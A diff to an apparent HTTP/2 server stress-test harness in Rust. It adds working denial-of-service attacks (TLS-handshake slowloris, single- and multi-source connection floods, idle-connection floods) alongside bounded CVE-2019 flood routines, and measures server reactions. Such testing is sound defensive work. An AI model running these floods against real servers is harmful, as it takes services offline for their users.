@@ -22,7 +22,9 @@
 //! | CONTINUATION flood | VU#421644 (2024) |
 //! | HPACK bomb | RFC 7541 §7.3, RFC 9113 §10.5.1 |
 //! | slowloris on the preface | RFC 9113 §10.5 |
-//! | connection flood | RFC 9113 §10.5 |
+//! | slowloris on the TLS handshake | RFC 9113 §10.5 |
+//! | connection flood (one address; many addresses) | RFC 9113 §10.5 |
+//! | idle connections | RFC 9113 §10.5 |
 
 use std::net::{SocketAddr, TcpStream};
 use std::time::{Duration, Instant};
@@ -62,6 +64,8 @@ pub struct AttackReport {
     pub bytes_sent: u64,
     /// How long the attack ran.
     pub elapsed: Duration,
+    /// What else the attack saw (connection floods: how many were refused, closed, alive).
+    pub detail: String,
 }
 
 /// Limits that keep every attack bounded.
@@ -75,6 +79,11 @@ pub struct Budget {
     pub write_patience: Duration,
     /// How long to wait for the server's verdict after the flood.
     pub verdict_timeout: Duration,
+    /// The local address attack connections come from (`None`: the system's choice). The
+    /// well-behaved client of [`run_watched`] always uses the system's choice, so an
+    /// attacker on 127.0.0.2 and the good client on 127.0.0.1 tell per-address limits from
+    /// global ones.
+    pub source: Option<std::net::IpAddr>,
 }
 
 impl Default for Budget {
@@ -84,6 +93,7 @@ impl Default for Budget {
             max_time: Duration::from_secs(10),
             write_patience: Duration::from_millis(500),
             verdict_timeout: Duration::from_secs(3),
+            source: None,
         }
     }
 }
@@ -107,12 +117,21 @@ pub fn all() -> Vec<(&'static str, Attack)> {
         ("continuation-flood", continuation_flood),
         ("hpack-bomb", hpack_bomb),
         ("slowloris-preface", slowloris_preface),
+        ("slowloris-tls", slowloris_tls),
         ("connection-flood", connection_flood),
+        ("connection-flood-spread", connection_flood_spread),
+        ("idle-connections", idle_connections),
     ]
 }
 
-fn connect(addr: SocketAddr, settings: &[(u16, u32)]) -> Option<Conn> {
-    let mut c = Conn::connect(addr, &addr.to_string(), Duration::from_secs(3)).ok()?;
+fn connect(addr: SocketAddr, budget: &Budget, settings: &[(u16, u32)]) -> Option<Conn> {
+    let mut c = Conn::connect_from(
+        addr,
+        budget.source,
+        &addr.to_string(),
+        Duration::from_secs(3),
+    )
+    .ok()?;
     c.handshake(settings).ok()?;
     Some(c)
 }
@@ -124,6 +143,7 @@ fn setup_failed(name: &'static str) -> AttackReport {
         frames_sent: 0,
         bytes_sent: 0,
         elapsed: Duration::ZERO,
+        detail: String::new(),
     }
 }
 
@@ -164,6 +184,7 @@ fn flood(
         frames_sent: frames,
         bytes_sent: bytes,
         elapsed: started.elapsed(),
+        detail: String::new(),
     }
 }
 
@@ -211,7 +232,7 @@ const LARGE_PATH: &str = "/bytes/1073741824";
 /// CVE-2019-9511: many streams asking for large responses through 1-octet windows opened one
 /// octet at a time, so a naive server queues the whole response in tiny chunks.
 pub fn data_dribble(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[(setting::INITIAL_WINDOW_SIZE, 1)]) else {
+    let Some(mut c) = connect(addr, budget, &[(setting::INITIAL_WINDOW_SIZE, 1)]) else {
         return setup_failed("data-dribble");
     };
     let mut open = Vec::new();
@@ -235,7 +256,7 @@ pub fn data_dribble(addr: SocketAddr, budget: &Budget) -> AttackReport {
 
 /// CVE-2019-9512: PINGs as fast as possible, never reading the ACKs.
 pub fn ping_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("ping-flood");
     };
     flood("ping-flood", &mut c, budget, 1000, |i| {
@@ -249,7 +270,7 @@ pub fn ping_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
 
 /// CVE-2019-9513: PRIORITY frames that keep reshuffling a dependency tree into cycles.
 pub fn priority_loop(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("priority-loop");
     };
     flood("priority-loop", &mut c, budget, 1000, |i| {
@@ -271,7 +292,7 @@ pub fn priority_loop(addr: SocketAddr, budget: &Budget) -> AttackReport {
 /// CVE-2019-9514: malformed requests that each make the server send RST_STREAM, never
 /// reading the resets.
 pub fn reset_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("reset-flood");
     };
     let authority = c.authority.clone();
@@ -299,7 +320,7 @@ pub fn reset_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
 
 /// CVE-2019-9515: SETTINGS frames as fast as possible, never reading the ACKs.
 pub fn settings_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("settings-flood");
     };
     flood("settings-flood", &mut c, budget, 1000, |_| {
@@ -316,7 +337,7 @@ pub fn settings_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
 /// CVE-2019-9516: header blocks of many empty names and values (each costs the server 32
 /// octets of accounting and nothing on the wire but 3 octets).
 pub fn zero_length_headers(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("zero-length-headers");
     };
     let authority = c.authority.clone();
@@ -343,7 +364,11 @@ pub fn zero_length_headers(addr: SocketAddr, budget: &Budget) -> AttackReport {
 /// read from the socket, so the server's writes pile up in its own buffers.
 pub fn internal_data_buffering(addr: SocketAddr, budget: &Budget) -> AttackReport {
     let started = Instant::now();
-    let Some(mut c) = connect(addr, &[(setting::INITIAL_WINDOW_SIZE, (1 << 31) - 1)]) else {
+    let Some(mut c) = connect(
+        addr,
+        budget,
+        &[(setting::INITIAL_WINDOW_SIZE, (1 << 31) - 1)],
+    ) else {
         return setup_failed("internal-data-buffering");
     };
     let mut b = frame(
@@ -374,12 +399,13 @@ pub fn internal_data_buffering(addr: SocketAddr, budget: &Budget) -> AttackRepor
         frames_sent: frames,
         bytes_sent: bytes,
         elapsed: started.elapsed(),
+        detail: String::new(),
     }
 }
 
 /// CVE-2019-9518: empty DATA frames (no payload, no END_STREAM) on an open stream.
 pub fn empty_frames(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("empty-frames");
     };
     let open = request(&c, "/", false, 1);
@@ -413,7 +439,7 @@ fn stream_churn(
     end_stream: bool,
     then: fn(u32) -> Vec<u8>,
 ) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed(name);
     };
     let template = request(&c, "/", end_stream, 1);
@@ -433,7 +459,7 @@ fn stream_churn(
 /// The 2024 CONTINUATION flood: a HEADERS frame without END_HEADERS followed by endless
 /// CONTINUATION frames, never ending the block.
 pub fn continuation_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("continuation-flood");
     };
     let authority = c.authority.clone();
@@ -454,7 +480,7 @@ pub fn continuation_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
 /// HPACK bomb: one 4 000-octet dynamic table entry, then header blocks that reference it
 /// thousands of times (one octet each), so each block decodes to megabytes.
 pub fn hpack_bomb(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
+    let Some(mut c) = connect(addr, budget, &[]) else {
         return setup_failed("hpack-bomb");
     };
     let authority = c.authority.clone();
@@ -485,7 +511,12 @@ pub fn hpack_bomb(addr: SocketAddr, budget: &Budget) -> AttackReport {
 /// close such a connection after a bounded time.
 pub fn slowloris_preface(addr: SocketAddr, budget: &Budget) -> AttackReport {
     let started = Instant::now();
-    let Ok(mut c) = Conn::connect(addr, &addr.to_string(), Duration::from_millis(500)) else {
+    let Ok(mut c) = Conn::connect_from(
+        addr,
+        budget.source,
+        &addr.to_string(),
+        Duration::from_millis(500),
+    ) else {
         return setup_failed("slowloris-preface");
     };
     // Never write anything but the dribbled preface (no SETTINGS ACK either).
@@ -533,66 +564,234 @@ pub fn slowloris_preface(addr: SocketAddr, budget: &Budget) -> AttackReport {
         frames_sent: sent,
         bytes_sent: sent,
         elapsed: started.elapsed(),
+        detail: String::new(),
     }
 }
 
-/// Connection flood: up to 2 000 idle TCP connections that never send a byte. Reports
-/// `Closed` when the server closed (or refused) all but a bounded number of them within the
-/// budget, `Nothing` when all stayed open. `frames_sent` is the number of connections opened.
+/// How many connections a connection flood opens.
+const FLOOD_CONNECTIONS: usize = 2000;
+
+/// Connection flood: 2 000 TCP connections from one address that never send a byte. A
+/// server should refuse those beyond its per-address limit at once and close the rest
+/// within its handshake timeout. `frames_sent` is the number of connections attempted;
+/// the reaction is GOAWAY(code) when refusals came with one, `Closed` when every connection
+/// was closed (or refused by the kernel), `Nothing` when some were still open at the end.
 pub fn connection_flood(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let started = Instant::now();
-    let mut conns = Vec::new();
-    let mut refused = 0u64;
-    for _ in 0..2000 {
-        match TcpStream::connect_timeout(&addr, Duration::from_millis(500)) {
-            Ok(s) => conns.push(s),
-            Err(_) => refused += 1,
+    flood_connections("connection-flood", addr, budget, &[budget.source], false)
+}
+
+/// Connection flood from many addresses: 2 000 idle connections spread over 20 loopback
+/// source addresses (127.0.0.10–29; only the budget's source when the target is not
+/// loopback), each under a per-address limit of 100 or more, so that only a global
+/// connection limit stops them.
+pub fn connection_flood_spread(addr: SocketAddr, budget: &Budget) -> AttackReport {
+    let sources: Vec<Option<std::net::IpAddr>> = if addr.ip().is_loopback() && addr.is_ipv4() {
+        (10..30u8)
+            .map(|i| Some(std::net::IpAddr::from([127, 0, 0, i])))
+            .collect()
+    } else {
+        vec![budget.source]
+    };
+    flood_connections("connection-flood-spread", addr, budget, &sources, false)
+}
+
+/// Idle HTTP/2 connections: 200 connections that complete the preface and SETTINGS
+/// exchange correctly and then never open a stream. A server should close them after its
+/// idle timeout (GOAWAY, typically NO_ERROR).
+pub fn idle_connections(addr: SocketAddr, budget: &Budget) -> AttackReport {
+    flood_connections("idle-connections", addr, budget, &[budget.source], true)
+}
+
+/// What became of one flood connection.
+struct Flooded {
+    sock: TcpStream,
+    buf: Vec<u8>,
+    goaway: Option<ErrorCode>,
+    closed_after: Option<Duration>,
+}
+
+impl Flooded {
+    /// Reads what the server sent without blocking; notes a GOAWAY and a close.
+    fn poll(&mut self, started: Instant) {
+        if self.closed_after.is_some() {
+            return;
         }
+        let mut chunk = [0u8; 4096];
+        loop {
+            match std::io::Read::read(&mut &self.sock, &mut chunk) {
+                Ok(0) => {
+                    self.closed_after = Some(started.elapsed());
+                    break;
+                }
+                Ok(n) => self.buf.extend_from_slice(&chunk[..n]),
+                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
+                Err(_) => {
+                    self.closed_after = Some(started.elapsed());
+                    break;
+                }
+            }
+        }
+        while self.buf.len() >= 9 {
+            let len = (usize::from(self.buf[0]) << 16)
+                | (usize::from(self.buf[1]) << 8)
+                | usize::from(self.buf[2]);
+            if self.buf.len() < 9 + len {
+                break;
+            }
+            if self.buf[3] == kind::GOAWAY && len >= 8 {
+                let c = &self.buf[13..17];
+                self.goaway = Some(ErrorCode::from(u32::from_be_bytes([
+                    c[0], c[1], c[2], c[3],
+                ])));
+            }
+            self.buf.drain(..9 + len);
+        }
+    }
+}
+
+fn flood_connections(
+    name: &'static str,
+    addr: SocketAddr,
+    budget: &Budget,
+    sources: &[Option<std::net::IpAddr>],
+    handshake: bool,
+) -> AttackReport {
+    let started = Instant::now();
+    let count = if handshake { 200 } else { FLOOD_CONNECTIONS };
+    let mut conns: Vec<Flooded> = Vec::new();
+    let mut kernel_refused = 0u64;
+    let mut bytes = 0u64;
+    for i in 0..count {
+        let from = sources[i % sources.len()];
+        let sock = match crate::conn::tcp_connect(addr, from, Duration::from_millis(500)) {
+            Ok(s) => s,
+            Err(_) => {
+                kernel_refused += 1;
+                continue;
+            }
+        };
+        if handshake {
+            let mut hello = PREFACE.to_vec();
+            hello.extend(frame(kind::SETTINGS, 0, 0, &[]));
+            hello.extend(frame(kind::SETTINGS, flag::ACK, 0, &[]));
+            bytes += hello.len() as u64;
+            let _ = std::io::Write::write_all(&mut &sock, &hello);
+        }
+        let _ = sock.set_nonblocking(true);
+        conns.push(Flooded {
+            sock,
+            buf: Vec::new(),
+            goaway: None,
+            closed_after: None,
+        });
         if started.elapsed() > budget.max_time {
             break;
         }
     }
-    let opened = conns.len() as u64;
-    // Wait for the server's idle/handshake timeout, then count survivors.
+    let opened = conns.len();
+    // Wait for the server's limits and timeouts (at least 15 s), then count survivors.
     let deadline = started + budget.max_time.max(Duration::from_secs(15));
-    let mut alive = opened;
-    while Instant::now() < deadline && alive > 0 {
-        std::thread::sleep(Duration::from_millis(500));
-        alive = conns.iter().filter(|s| still_open(s)).count() as u64;
+    loop {
+        for c in conns.iter_mut() {
+            c.poll(started);
+        }
+        let alive = conns.iter().filter(|c| c.closed_after.is_none()).count();
+        if alive == 0 || Instant::now() >= deadline {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(200));
     }
-    let reaction = if alive == 0 || refused > 0 {
-        Reaction::Closed
-    } else {
+    let alive = conns.iter().filter(|c| c.closed_after.is_none()).count();
+    let mut codes: Vec<ErrorCode> = conns.iter().filter_map(|c| c.goaway).collect();
+    codes.sort_by_key(|c| c.0);
+    codes.dedup();
+    let refused_calm = conns
+        .iter()
+        .filter(|c| c.goaway == Some(ErrorCode::ENHANCE_YOUR_CALM))
+        .count();
+    let last_close = conns.iter().filter_map(|c| c.closed_after).max();
+    let reaction = if alive > 0 {
         Reaction::Nothing
+    } else if refused_calm > 0 {
+        Reaction::Goaway(ErrorCode::ENHANCE_YOUR_CALM)
+    } else if let Some(code) = codes.first() {
+        Reaction::Goaway(*code)
+    } else {
+        Reaction::Closed
     };
+    let detail =
+        format!(
+        "{opened} opened ({kernel_refused} refused by the kernel): {refused_calm} refused with \
+         GOAWAY ENHANCE_YOUR_CALM, {} closed later, {alive} still open; last closed after {:.1} s; \
+         GOAWAY codes seen: {}",
+        opened - refused_calm - alive,
+        last_close.unwrap_or_default().as_secs_f64(),
+        codes.iter().map(|c| c.to_string()).collect::<Vec<_>>().join(", ")
+    );
     AttackReport {
-        name: "connection-flood",
+        name,
         reaction,
-        frames_sent: opened + refused,
-        bytes_sent: 0,
+        frames_sent: (opened as u64) + kernel_refused,
+        bytes_sent: bytes,
         elapsed: started.elapsed(),
+        detail,
     }
 }
 
-/// True while the peer has not closed `s` (a zero-length peek or an error means closed; the
-/// server's SETTINGS preface may be waiting to be read, which still means open).
-fn still_open(s: &TcpStream) -> bool {
-    if s.set_nonblocking(true).is_err() {
-        return false;
-    }
-    let mut buf = [0u8; 1];
-    let open = match s.peek(&mut buf) {
-        Ok(0) => false,
-        Ok(_) => {
-            // Drain what the server sent so a close behind it becomes visible next time.
-            let mut sink = [0u8; 4096];
-            let _ = std::io::Read::read(&mut &*s, &mut sink);
-            true
-        }
-        Err(e) => e.kind() == std::io::ErrorKind::WouldBlock,
+/// Slowloris on the TLS handshake: a TLS record header announcing a 512-octet ClientHello,
+/// then one octet every 500 ms. A TLS server must drop the connection after a bounded
+/// handshake time (against h2c the octets are just an invalid preface).
+pub fn slowloris_tls(addr: SocketAddr, budget: &Budget) -> AttackReport {
+    let started = Instant::now();
+    let Ok(sock) = crate::conn::tcp_connect(addr, budget.source, Duration::from_secs(3)) else {
+        return setup_failed("slowloris-tls");
     };
-    let _ = s.set_nonblocking(false);
-    open
+    // Handshake record (22), TLS 1.0 record version, 512 octets; then ClientHello (1), ...
+    let mut dribble = vec![
+        0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
+    ];
+    dribble.extend(std::iter::repeat_n(0x42u8, 501));
+    let deadline = started + budget.max_time.max(Duration::from_secs(30));
+    let mut sent = 0u64;
+    let mut reaction = Reaction::Nothing;
+    let _ = sock.set_read_timeout(Some(Duration::from_millis(500)));
+    let _ = sock.set_write_timeout(Some(budget.write_patience));
+    for b in dribble {
+        if Instant::now() >= deadline {
+            break;
+        }
+        if std::io::Write::write_all(&mut &sock, &[b]).is_err() {
+            reaction = Reaction::Closed;
+            break;
+        }
+        sent += 1;
+        let mut buf = [0u8; 1024];
+        match std::io::Read::read(&mut &sock, &mut buf) {
+            Ok(0) => {
+                reaction = Reaction::Closed;
+                break;
+            }
+            // A TLS alert or an HTTP/2 GOAWAY: the server gave up on us, and says so.
+            Ok(_) => {}
+            Err(e)
+                if matches!(
+                    e.kind(),
+                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
+                ) => {}
+            Err(_) => {
+                reaction = Reaction::Closed;
+                break;
+            }
+        }
+    }
+    AttackReport {
+        name: "slowloris-tls",
+        reaction,
+        frames_sent: sent,
+        bytes_sent: sent,
+        elapsed: started.elapsed(),
+        detail: String::new(),
+    }
 }
 
 /// A well-behaved client running beside an attack: GET `/` on one connection, one request at
@@ -600,26 +799,35 @@ fn still_open(s: &TcpStream) -> bool {
 pub fn well_behaved_client(
     addr: SocketAddr,
     stop: &std::sync::atomic::AtomicBool,
+    first_answer: Option<std::sync::mpsc::Sender<()>>,
 ) -> Vec<Option<Duration>> {
+    let mut first_answer = first_answer;
     let mut out = Vec::new();
-    let mut conn = connect(addr, &[]);
+    let budget = Budget::default();
+    let mut conn = connect(addr, &budget, &[]);
     let mut stream = 1u32;
     while !stop.load(std::sync::atomic::Ordering::Relaxed) && out.len() < 100_000 {
         let Some(c) = conn.as_mut() else {
-            out.push(None);
+            // Reconnect (after a failure already counted): only a failed connect counts.
             std::thread::sleep(Duration::from_millis(100));
-            conn = connect(addr, &[]);
+            conn = connect(addr, &budget, &[]);
             stream = 1;
+            if conn.is_none() {
+                eprintln!("well-behaved client: cannot connect");
+                out.push(None);
+            }
             continue;
         };
         let t = Instant::now();
         c.open_stream(stream, true);
         let mut ok = false;
+        let why;
         let deadline = t + Duration::from_secs(5);
         loop {
             match c.read_frame_until(deadline) {
                 Observed::Frame(f) if f.stream == stream && f.flags & flag::END_STREAM != 0 => {
                     ok = f.kind == kind::HEADERS || f.kind == kind::DATA;
+                    why = f.describe();
                     break;
                 }
                 Observed::Frame(f) if f.kind == kind::DATA && f.stream == stream => {
@@ -632,17 +840,29 @@ pub fn well_behaved_client(
                     if f.kind == kind::GOAWAY
                         || (f.kind == kind::RST_STREAM && f.stream == stream) =>
                 {
-                    break
+                    why = f.describe();
+                    break;
                 }
                 Observed::Frame(_) => {}
-                Observed::Closed | Observed::Timeout => break,
+                Observed::Closed => {
+                    why = "the connection was closed".into();
+                    break;
+                }
+                Observed::Timeout => {
+                    why = "no answer within 5 s".into();
+                    break;
+                }
             }
         }
         if ok {
+            if let Some(tx) = first_answer.take() {
+                let _ = tx.send(());
+            }
             out.push(Some(t.elapsed()));
             stream += 2;
             std::thread::sleep(Duration::from_millis(20));
         } else {
+            eprintln!("well-behaved client: request on stream {stream} failed: {why}");
             out.push(None);
             conn = None;
         }
@@ -693,6 +913,23 @@ impl Watched {
 /// Runs `attack` against the server process `pid` listening on `addr`, with a well-behaved
 /// client on a second connection and the server's RSS sampled every 50 ms.
 pub fn run_watched(pid: u32, addr: SocketAddr, attack: Attack, budget: &Budget) -> Watched {
+    run_watched_with(pid, addr, attack, budget, move |stop, first| {
+        well_behaved_client(addr, stop, Some(first))
+    })
+}
+
+/// [`run_watched`] with another well-behaved client (e.g. one speaking TLS): `good` runs on
+/// its own thread until the flag is set, signals its first answer, and returns each
+/// request's latency (None: failed).
+pub fn run_watched_with(
+    pid: u32,
+    addr: SocketAddr,
+    attack: Attack,
+    budget: &Budget,
+    good: impl FnOnce(&std::sync::atomic::AtomicBool, std::sync::mpsc::Sender<()>) -> Vec<Option<Duration>>
+        + Send
+        + 'static,
+) -> Watched {
     use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
     use std::sync::Arc;
     let rss_before_kib = rss_kib(pid).unwrap_or(0);
@@ -709,10 +946,13 @@ pub fn run_watched(pid: u32, addr: SocketAddr, attack: Attack, budget: &Budget) 
             }
         })
     };
+    let (first_tx, first_rx) = std::sync::mpsc::channel();
     let good = {
         let stop = stop.clone();
-        std::thread::spawn(move || well_behaved_client(addr, &stop))
+        std::thread::spawn(move || good(&stop, first_tx))
     };
+    // The well-behaved client is connected and answered before the attack starts.
+    let _ = first_rx.recv_timeout(Duration::from_secs(10));
     let report = attack(addr, budget);
     // Let the server settle, then stop the helpers.
     std::thread::sleep(Duration::from_millis(200));
